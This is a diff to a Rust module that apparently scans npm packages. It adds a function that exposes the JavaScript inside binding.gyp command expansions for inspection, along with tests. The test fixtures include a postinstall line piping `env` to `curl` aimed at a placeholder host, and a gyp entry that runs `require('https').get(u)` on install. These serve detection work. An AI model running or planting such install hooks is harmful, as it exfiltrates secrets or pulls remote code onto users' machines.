@@ -86,6 +86,39 @@ fn install_script_view(data: &[u8]) -> Option<InstallScriptView> {
     any.then_some(InstallScriptView { shell, javascript })
 }
 
+/// The JavaScript a `binding.gyp` (or `.gypi`) hands to a runtime in its command
+/// expansions and actions (`'<!(node -e "...")'`), which node-gyp runs on install: the
+/// whole file with gyp's string escapes (`\\'`) undone, each line padded back to its
+/// length so that lines stay where they are, and JavaScript comment openers blanked;
+/// `None` when the file names no runtime. Its strings nest too deeply (JavaScript inside
+/// a shell command inside a gyp string) to cut out only the code, and the rest of the
+/// file is data that runs nowhere.
+pub fn gyp_javascript_view(data: &[u8]) -> Option<Vec<u8>> {
+    if !mentions_runtime(data) {
+        return None;
+    }
+    let mut view = Vec::with_capacity(data.len());
+    for line in data.split_inclusive(|&b| b == b'\n') {
+        let (body, end) = match line.strip_suffix(b"\n") {
+            Some(body) => (body, &b"\n"[..]),
+            None => (line, &b""[..]),
+        };
+        let start = view.len();
+        let mut i = 0;
+        while i < body.len() {
+            if body[i] == b'\\' && matches!(body.get(i + 1), Some(b'\'' | b'"')) {
+                i += 1;
+            }
+            view.push(body[i]);
+            i += 1;
+        }
+        view.resize(start + body.len(), b' ');
+        view.extend_from_slice(end);
+    }
+    neutralise_comments(&mut view);
+    Some(view)
+}
+
 /// The scripts npm runs on install: the lifecycle hooks present and every script they
 /// name, even where a hook could also start scripts unnamed (the view shows what can be
 /// read; weighing what cannot is the on-demand check's concern).
@@ -341,6 +374,17 @@ mod tests {
         let v = view("{\"scripts\": {\"postinstall\": \"echo a\\nenv | curl -d @- x\"}}").unwrap();
         assert!(v.contains("echo a;env | curl -d @- x"), "{v}");
         assert_eq!(v.lines().count(), 1);
+    }
+
+    #[test]
+    fn gyp_escapes_are_undone_at_the_same_lines() {
+        let gyp = b"{\n 'v': '<!(node -e \"require(\\'https\\').get(u)\")',\n 'w': 1 }\n";
+        let view = super::gyp_javascript_view(gyp).unwrap();
+        assert_eq!(view.len(), gyp.len());
+        let text = String::from_utf8(view).unwrap();
+        assert!(text.contains("require('https').get(u)"), "{text}");
+        assert_eq!(text.lines().nth(2), Some(" 'w': 1 }"));
+        assert_eq!(super::gyp_javascript_view(b"{ 'sources': ['a.cc'] }"), None);
     }
 
     #[test]
